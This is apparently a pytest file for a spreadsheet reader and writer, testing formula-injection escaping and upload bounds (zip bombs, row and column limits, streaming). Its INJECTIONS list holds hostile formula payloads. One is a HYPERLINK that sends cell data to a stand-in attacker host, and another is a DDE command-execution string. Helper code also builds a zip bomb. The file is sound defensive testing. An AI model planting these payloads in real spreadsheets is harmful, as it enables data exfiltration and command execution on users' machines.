"""The kernel's table reader (bounded, streamed) and writer (no formula injection)."""

from __future__ import annotations

import ast
import datetime as dt
import io
import tracemalloc
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from pik.core import tables
from pik.core.uploads import UploadError

SRC = Path(__file__).resolve().parents[2] / "src" / "pik"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&B2&C2,"Antrag öffnen")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _reload(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data)).active


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


# --- Writing --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_is_written_as_quoted_text(text: str) -> None:
    data = tables.workbook_bytes("Test", ["Name"], [[text]])
    cell = _reload(data)["A2"]
    assert cell.data_type == "s"  # a string, not "f" (formula)
    assert cell.value.strip() == text.strip()  # as typed (XML turns a bare CR into LF)
    assert cell.quotePrefix  # LibreOffice and Excel keep it text even after editing
    assert "<f>" not in _sheet_xml(data)


def test_several_sheets_each_written_like_the_one_sheet() -> None:
    header = [tables.Column("Name", "text"), tables.Column("Betrag", "money")]
    data = tables.workbook_sheets_bytes(
        [
            tables.Sheet("2024", header, [["=1+1", Decimal("58000.00")]]),
            tables.Sheet("01.01.–30.06.2025", header, [["Böblingen", 12], ["Calw", "< 5"]]),
        ]
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["2024", "01.01.–30.06.2025"]
    first, second = book["2024"], book["01.01.–30.06.2025"]
    assert first["A2"].data_type == "s" and first["A2"].quotePrefix  # no formula
    assert first["B2"].number_format == tables.MONEY_FORMAT
    for sheet, last in ((first, 2), (second, 3)):
        assert sheet["A1"].value == "Name" and sheet["A1"].font.bold
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:B{last}"
    assert [c.value for c in second[3]] == ["Calw", "< 5"]


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    row = [-5, Decimal("-12.50"), 3.25, Decimal("58000.00"), dt.date(2024, 3, 1), "Böblingen"]
    sheet = _reload(tables.workbook_bytes("Test", list("ABCDEF"), [row]))
    values = [c.value for c in sheet[2]]
    assert values[:4] == [-5, -12.5, 3.25, 58000]
    assert [c.data_type for c in sheet[2]] == ["n", "n", "n", "n", "d", "s"]
    assert values[4] == dt.datetime(2024, 3, 1)  # noqa: DTZ001 - openpyxl reads naive
    assert not any(c.quotePrefix for c in sheet[2])


def test_export_is_usable_german_formats_widths_frozen_header_autofilter() -> None:
    header = [tables.Column("Betrag", "money"), "Anteil", "Jahr", "Eingang", "Name"]
    rows = [
        [Decimal("58000.00"), Decimal("0.75"), 2026, dt.date(2026, 3, 1), "Landratsamt Böblingen"],
        [Decimal("-12.5"), 0.5, 2025, dt.date(2025, 12, 31), "=1+1"],
    ]
    sheet = _reload(tables.workbook_bytes("Test", header, rows))
    money, share, year, date, name = sheet[2]
    assert money.value == 58000 and money.number_format == '#,##0.00 "€"'  # 58.000,00 €
    assert share.number_format == "#,##0.00"
    assert year.value == 2026 and year.number_format == "0"  # never 2.026
    assert date.is_date and date.number_format == "DD.MM.YYYY"  # TT.MM.JJJJ
    assert name.number_format == "General"
    assert sheet["E3"].value == "=1+1" and sheet["E3"].data_type == "s"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert all(c.font.bold for c in sheet[1])
    widths = {k: v.width for k, v in sheet.column_dimensions.items()}
    assert widths["E"] >= len("Landratsamt Böblingen") and widths["D"] >= 10
    assert widths["A"] >= len("58.000,00 €")


def test_aware_datetimes_are_written_in_local_time() -> None:
    moment = dt.datetime(2026, 3, 1, 12, 30, tzinfo=dt.UTC)
    cell = _reload(tables.workbook_bytes("Test", ["Zeit"], [[moment]]))["A2"]
    assert cell.value == dt.datetime(2026, 3, 1, 13, 30)  # noqa: DTZ001 - Europe/Berlin, naive
    assert cell.number_format == "DD.MM.YYYY HH:MM"


def _imports(path: Path) -> set[str]:
    tree = ast.parse(path.read_text("utf-8"))
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            names.add(node.module.split(".")[0])
    return names


@pytest.mark.parametrize(
    "module",
    sorted(str(p.relative_to(SRC)) for p in SRC.rglob("*.py") if "migrations" not in p.parts),
)
def test_only_the_kernel_reads_and_writes_tables(module: str) -> None:
    """Every CSV/XLSX writer and reader goes through pik.core.tables, so none escapes the
    formula guard or the upload bounds; a new module that imports csv or openpyxl fails here."""
    if module == "core/tables.py":
        return
    assert not _imports(SRC / module) & {"csv", "openpyxl", "xlsxwriter"}, (
        f"{module}: read and write tables through pik.core.tables"
    )


# --- Reading --------------------------------------------------------------------------------


class Unreadable(io.BytesIO):
    """A file that claims a size and fails the test if anyone reads it."""

    def __init__(self, size: int) -> None:
        super().__init__()
        self.size = size
        self.name = "gross.csv"

    def read(self, *args: object) -> bytes:  # type: ignore[override]
        raise AssertionError("the file was read")


def test_oversize_table_is_refused_before_reading() -> None:
    with pytest.raises(UploadError, match="größer als 5 MB"):
        tables.read_rows(Unreadable(49 * 1024 * 1024), name="gross.csv")


def _xlsx(rows: int, columns: int = 2) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for number in range(rows):
        sheet.append([f"{number}"] * columns)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _bomb(unpacked: int) -> bytes:
    """A valid XLSX with one extra member of ``unpacked`` zero bytes (packs about 1,000:1)."""
    buffer = io.BytesIO(_xlsx(2))
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/zeros.bin", b"\0" * unpacked)
    return buffer.getvalue()


def test_zip_bomb_is_refused_before_openpyxl_opens_it(monkeypatch: pytest.MonkeyPatch) -> None:
    data = _bomb(40 * 1024 * 1024)
    assert len(data) < 100_000
    monkeypatch.setattr(tables, "load_workbook", lambda *a, **k: pytest.fail("opened"))
    with pytest.raises(UploadError, match="entpackt größer als 30 MB"):
        list(tables.read_rows(data, name="bombe.xlsx"))


def test_highly_packed_member_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "load_workbook", lambda *a, **k: pytest.fail("opened"))
    with pytest.raises(UploadError, match="stark gepackt"):
        list(tables.read_rows(_bomb(5 * 1024 * 1024), name="bombe.xlsx"))


def test_too_many_rows_are_refused_csv_and_xlsx() -> None:
    csv_data = "ags,personen\n" + "08115003,1\n" * tables.MAX_TABLE_ROWS
    with pytest.raises(UploadError, match=r"mehr als 50\.000 Zeilen"):
        list(tables.read_rows(csv_data.encode(), name="lang.csv"))
    with pytest.raises(UploadError, match="mehr als 10 Zeilen"):
        list(tables.read_rows(_xlsx(11), name="lang.xlsx", max_rows=10))
    assert len(list(tables.read_rows(_xlsx(10), name="ok.xlsx", max_rows=10))) == 10


def test_too_many_columns_are_refused() -> None:
    with pytest.raises(UploadError, match="mehr als 100 Spalten"):
        list(tables.read_rows(_xlsx(2, columns=101), name="breit.xlsx"))
    with pytest.raises(UploadError, match="Zeile 1 hat mehr als 100 Spalten"):
        list(tables.read_rows(b"a," * 101 + b"\n", name="breit.csv"))


def test_csv_is_streamed_not_read_whole() -> None:
    data = io.BytesIO(("ags;personen\n" + "08115003;12\n" * 300_000).encode())  # 3.6 MB
    tracemalloc.start()
    try:
        rows = tables.read_rows(data, name="gross.csv", max_rows=400_000)
        count = sum(1 for _ in rows)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert count == 1 + 300_000
    assert peak < 1024 * 1024, peak  # decoding the whole file would take > 3.6 MB


def test_semicolon_csv_with_bom_and_xlsx_read_alike() -> None:
    csv_rows = list(tables.read_rows("\ufeffags;personen\n08115003;12\n".encode(), name="a.csv"))
    assert csv_rows == [(1, ["ags", "personen"]), (2, ["08115003", "12"])]
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["ags", "personen"])
    sheet.append(["08115003", 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    assert list(tables.read_rows(buffer, name="a.xlsx")) == csv_rows


def test_xlsx_without_dimension_is_bounded_in_width() -> None:
    """Without <dimension>, one cell in column XFD would make each row 16,384 cells wide."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx(1)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode()
                start = xml.index("<dimension")
                xml = xml[:start] + xml[xml.index("/>", start) + 2 :]
                xml = xml.replace("</row>", '<c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>')
                data = xml.encode()
            target.writestr(member, data)
    buffer.seek(0)
    assert list(tables.read_rows(buffer, name="weit.xlsx")) == [(1, ["0", "0"])]
